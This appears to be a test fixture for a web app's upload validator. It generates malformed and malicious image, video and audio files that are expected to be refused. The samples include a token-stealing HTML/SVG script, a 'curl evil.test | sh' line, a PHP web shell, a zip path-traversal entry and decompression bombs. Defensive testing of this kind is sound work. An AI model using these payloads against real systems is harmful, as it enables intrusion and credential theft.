import { deflateSync, gzipSync } from 'node:zlib';
import type { UploadKind } from '../../src/modules/assets/rules/fields.ts';
import { animation, canvas, gifOf, pngOf } from './pictures.ts';
import { box, filler, flac, mov, mp3, mp4, mp4WithoutIndex, ogg, wav, webm } from './recordings.ts';

export type Hostile = {
  what: string;
  kind: UploadKind;
  bytes: Buffer;
  /** 400 for malformed or truncated files, 413 for too large ones, 415 for an unsupported type. */
  status: 400 | 413 | 415;
};

const html = '<!doctype html><script>parent.postMessage(localStorage.accessToken, "*")</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${html}</svg>`;
const of = (text: string) => Buffer.from(text, 'latin1');
const half = (bytes: Buffer) => bytes.subarray(0, bytes.length >> 1);
const after = (head: Buffer | string, tail = html) =>
  Buffer.concat([typeof head === 'string' ? of(head) : head, of(tail)]);
const named = (status: Hostile['status'], kind: UploadKind, files: Record<string, Buffer>): Hostile[] =>
  Object.entries(files).map(([what, bytes]) => ({ what, kind, bytes, status }));

/** A zip that contains one file with a path that leads out of the zip. */
const zip = after(of('PK\x03\x04\x14\x00\x00\x00\x00\x00'), `${'\0'.repeat(20)}../../etc/cron.d/x`);

/** A box that declares an impossibly large size. */
const endlessBox = Buffer.concat([
  box('ftyp', of('isom'), Buffer.alloc(4), of('isom')),
  of('\0\0\0\x01moov\xff\xff\xff\xff\xff\xff\xff\xff'),
]);

async function pictures(): Promise<Hostile[]> {
  const jpeg = await canvas(400, 300).jpeg().toBuffer();
  const png = await canvas(400, 300).png().toBuffer();
  const webp = await canvas(400, 300).webp().toBuffer();
  const gif = await animation('gif', 40, 30, 3);
  const exif = await canvas(40, 30).jpeg().withMetadata({ orientation: 6 }).toBuffer();
  return [
    ...named(400, 'image', {
      'half a JPEG': half(jpeg),
      'half a PNG': half(png),
      'half a WebP': half(webp),
      'half a GIF': half(gif),
      'the head of a JPEG': jpeg.subarray(0, 30),
      'a JPEG whose pixels are HTML': after(exif.subarray(0, 300)),
      'a GIF that is a script': of('GIF89a/*                              */=1;alert(1)//'),
      'a PNG without enough pixels': pngOf(100, 100),
      'a PNG of 12,001 by 1': pngOf(12_001, 1),
      'a PNG of 10,000 by 10,000': pngOf(10_000, 10_000),
      'a PNG of 2 billion by 2 billion': pngOf(0x7fffffff, 0x7fffffff),
      'a PNG of nothing by nothing': pngOf(0, 0),
      'a PNG whose text unpacks to 60 MB': pngOf(9_999, 9_999, [
        'zTXt',
        Buffer.concat([of('x\0\0'), deflateSync(Buffer.alloc(60_000_000))]),
      ]),
      'a GIF of 65,535 by 65,535': gifOf(65_535, 65_535, 1, 65_535),
      'a GIF of 20,000 frames': gifOf(1, 1, 20_000),
      'a GIF of 51 megapixels in frames': gifOf(1_000, 1_000, 51),
      'a WebP with a wrong length': Buffer.concat([
        webp.subarray(0, 4),
        Buffer.alloc(4, 255),
        webp.subarray(8, 60),
      ]),
    }),
    ...named(415, 'image', {
      'an SVG with a script': of(svg),
      'an SVG with an XML head': of(`<?xml version="1.0"?>${svg}`),
      'an SVG that is packed': gzipSync(of(svg)),
      'HTML named png': of(html),
      'HTML behind a mark of byte order': of(`\xef\xbb\xbf${html}`),
      'a script': of('#!/bin/sh\ncurl evil.test | sh'),
      'a PHP page': of('<?php system($_GET["c"]); ?>'),
      'the magic of PNG alone': of('\x89PNG'),
      'a PDF': of('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n'),
      'a zip that climbs': zip,
      'a TIFF': await canvas(9, 9).tiff().toBuffer(),
      'an AVIF': await canvas(9, 9).avif().toBuffer(),
      'a HEIC': box('ftyp', of('heic'), Buffer.alloc(4), of('mif1heic')),
      'an icon': of('\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0'),
      'a BMP': after(of('BM\x46\0\0\0\0\0\0\0\x36\0\0\0')),
      'a JPEG 2000': of('\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 '),
      'a PostScript page': of('%!PS-Adobe-3.0 EPSF-3.0\n'),
      'a Flash film': of('CWS\x0a\xff\xff\0\0'),
      'a program for Windows': of('MZ\x90\0\x03\0\0\0'),
      'a program for Linux': of('\x7fELF\x02\x01\x01\0'),
      'a video': mp4(),
      zeros: Buffer.alloc(5_000),
    }),
    ...named(413, 'image', { 'noise of a byte too much': Buffer.alloc(1_500_001, 7) }),
    ...named(413, 'avatar', {
      'an avatar of a byte too much': Buffer.concat([jpeg, filler(3_000_001 - jpeg.length)]),
    }),
  ];
}

function recordings(): Hostile[] {
  return [
    ...named(400, 'video', {
      'half an MP4': half(mp4()),
      'an MP4 without an index': mp4WithoutIndex(),
      'an MP4 whose index is empty': Buffer.concat([mp4WithoutIndex(), box('moov')]),
      'an MP4 with a box past its end': endlessBox,
      'an MP4 with HTML behind it': after(mp4()),
      'half a MOV': half(mov()),
      'half a WebM': half(webm()),
      'a WebM without tracks': webm({ tracks: false }),
      'an Ogg that breaks off': half(ogg('theora')),
      'an Ogg with HTML behind it': after(ogg('theora')),
    }),
    ...named(415, 'video', {
      'a Matroska film': webm({ docType: 'matroska' }),
      'an AVI': of('RIFF\x24\0\0\0AVI LIST'),
      'an M4A as a video': mp4({ brand: 'M4A ' }),
      'a 3GP': mp4({ brand: '3gp4' }),
      'an Ogg of sound alone': ogg('vorbis'),
      'an Ogg of nothing known': ogg('unknown'),
      'an MPEG stream': of('\0\0\x01\xba\x44\0\x04\0'),
      'HTML named mp4': of(html),
      'a picture as a video': pngOf(1, 1),
    }),
    ...named(400, 'audio', {
      'a WAV that breaks off': wav({ declaredBytes: 9_000 }),
      'a WAV without a format': of('RIFF\x10\0\0\0WAVEdata\x04\0\0\0abcd'),
      'a FLAC that begins with a picture': flac(6),
      'the head of a FLAC': flac().subarray(0, 30),
      'an MP3 of tags alone': mp3({ tagged: true, frames: 0 }),
      'an MP3 whose tag hides HTML': after(mp3({ tagged: true, frames: 0 }), html.repeat(20)),
      'half an Ogg': half(ogg('opus')),
    }),
    ...named(415, 'audio', {
      'one frame of MP3 before HTML': after(of('\xff\xf1\x50\x80')),
      'an AAC': of('\xff\xf1\x50\x80\x02\x1f\xfc'),
      'a MIDI': of('MThd\0\0\0\x06\0\x01\0\x01'),
      'a WebM as a sound': webm(),
      'an Ogg film as a sound': ogg('theora', 'vorbis'),
      'HTML named mp3': of(html),
    }),
    ...named(413, 'audio', {
      'a WAV of a byte too much': wav({ declaredBytes: 14_999_957, actualBytes: 14_999_957 }),
    }),
  ];
}

/** Files of every kind that must be refused, created anew for each call. */
export const hostileFiles = async (): Promise<Hostile[]> => [...(await pictures()), ...recordings()];
